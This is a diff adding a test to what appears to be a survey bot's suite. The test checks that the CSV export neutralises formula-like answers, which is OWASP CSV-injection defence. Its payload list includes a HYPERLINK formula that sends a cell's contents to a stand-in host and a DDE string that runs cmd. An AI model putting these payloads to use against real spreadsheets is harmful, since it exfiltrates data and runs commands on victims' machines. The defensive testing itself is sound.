@@ -428,3 +428,26 @@ async def test_results_without_an_id_offers_the_surveys_that_have_results(
     assert labels(pick) == ["#1 The parks"]
     first, *_ = await chat.tap("#1 The parks", user="admin")
     assert first.text.startswith("📊 Results: The parks")
+
+
+async def test_the_csv_export_quotes_answers_a_spreadsheet_would_run(
+    chat: RecordingChannel, db: Database
+):
+    """OWASP CSV injection: a free-text answer that starts like a formula is exported
+    behind a `'`, so a spreadsheet shows it as text instead of running it."""
+    payloads = ('=HYPERLINK("http://x/?"&A1,"Details")', "+cmd|' /C calc'!A0", "-1+1", "＝4+4")
+    await add_survey(db)
+    for n, text in enumerate(payloads):
+        user = f"u{n}"
+        await onboard(chat, user=user)
+        await chat.say("/surveys", user=user)
+        await chat.tap("📝 The parks", user=user)
+        await chat.tap("No", user=user)
+        await chat.tap("4️⃣", user=user)
+        await chat.tap("⏭️ Skip", user=user)
+        await chat.say(text, user=user)
+    await onboard(chat, user="admin")
+    _, *chunks = await chat.say("/survey 1 export", user="admin")
+    rows = list(csv.DictReader(io.StringIO("\n".join(c.text for c in chunks))))
+    assert sorted(r["idea"] for r in rows) == sorted("'" + text for text in payloads)
+    assert {r["clean"] for r in rows} == {"4"}
